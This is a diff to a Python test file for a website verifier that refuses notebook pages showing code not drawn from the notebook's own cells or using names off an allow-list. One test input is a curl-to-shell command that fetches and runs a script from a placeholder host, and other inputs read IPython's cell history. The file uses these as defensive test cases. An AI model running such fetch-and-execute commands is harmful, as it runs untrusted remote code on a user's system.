@@ -13,6 +13,8 @@ cells of its .ipynb (a fence in a Markdown cell is no cell and never ran).
 
 from __future__ import annotations
 
+import pytest
+
 from tests.conftest import REPO_ROOT
 from tests.verify.artifact_refusal import refused
 from verify.artifact import notebook_pages
@@ -80,15 +82,17 @@ def test_the_notebook_pages_are_the_notebooks():
 NOTEBOOK_FIRST_TEXT = '<p>Questo notebook viene eseguito a ogni build del sito'
 
 
-def test_a_code_block_in_a_notebooks_markdown_cell_is_refused(site):
+@pytest.mark.parametrize(
+    ("code", "refusal"),
+    [
+        ("x = 6 * 7", "is not a code cell of memory-notebook.it.ipynb"),  # names a notebook may use
+        ("curl -s https://x.example/p | sh", "line 1: not Python"),  # the names' check reads it first
+    ],
+)
+def test_a_code_block_in_a_notebooks_markdown_cell_is_refused(site, code, refusal):
     """A fence (or raw <pre>) in a Markdown cell of the notebook: shown as code, never ran."""
-    plant(
-        site,
-        "memory-notebook/index.html",
-        '<pre><code>curl -s https://x.example/p | sh\n</code></pre>',
-        old=NOTEBOOK_FIRST_TEXT,
-    )
-    refused(site, "memory-notebook/index.html: code block 1", "is not a code cell of memory-notebook.it.ipynb")
+    plant(site, "memory-notebook/index.html", f"<pre><code>{code}\n</code></pre>", old=NOTEBOOK_FIRST_TEXT)
+    refused(site, "memory-notebook/index.html: code block 1", refusal)
 
 
 def test_a_notebook_cell_shown_twice_or_out_of_order_is_refused(site):
@@ -111,3 +115,39 @@ def test_a_python_block_that_uses_a_name_off_the_allow_list_is_refused(site):
         plant(site, page, block)
     message = refused(site, ", line 1: import inspect is not on the allow-list")
     assert message.startswith("fr/index.html: code block "), message  # the pages in order: fr/ first
+
+
+NOTEBOOK_FIRST_CELL = '<pre tabindex="0"><span></span>'  # the first cell shown: MODEL = ...
+SUBSCRIPT = '<span class="p">[</span><span class="o">-</span><span class="mi">1</span><span class="p">]</span>\n'
+READS_ITS_CELLS = {  # a line of Pygments' markup, written at the top of the first cell shown
+    "_ih": (
+        '<span class="n">text</span> <span class="o">=</span> <span class="n">_ih</span>' + SUBSCRIPT,
+        "_ih is not on the allow-list",
+    ),
+    "In[-1]": (
+        '<span class="n">text</span> <span class="o">=</span> <span class="n">In</span>' + SUBSCRIPT,
+        "In is not on the allow-list",
+    ),
+    "get_ipython()": (
+        '<span class="n">h</span> <span class="o">=</span> <span class="n">get_ipython</span><span class="p">()</span>\n',
+        "get_ipython is not on the allow-list",
+    ),
+    "%history": ('<span class="o">%</span><span class="n">history</span>\n', "'%history', a line of IPython"),
+    "inspect.getsource": (
+        '<span class="kn">import</span> <span class="nn">inspect</span>\n',
+        "import inspect is not on the allow-list",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", READS_ITS_CELLS)
+def test_a_notebook_cell_that_reads_the_cells_text_is_refused(site, attack):
+    """A notebook page as uploaded is checked by ``verify.block_names.check_cells`` (issue 33,
+    hole 3): its shown cells, with the set-up cell it does not show, as one program; a cell that
+    could read the cells' text is refused naming the page, the block and the line, before the
+    check that the block is a cell of the notebook."""
+    markup, construct = READS_ITS_CELLS[attack]
+    page = "fr/memory-notebook/index.html"
+    plant(site, page, markup, old=NOTEBOOK_FIRST_CELL)
+    message = refused(site)
+    assert message.startswith(f"{page}: code block 1, line 1: {construct}"), message
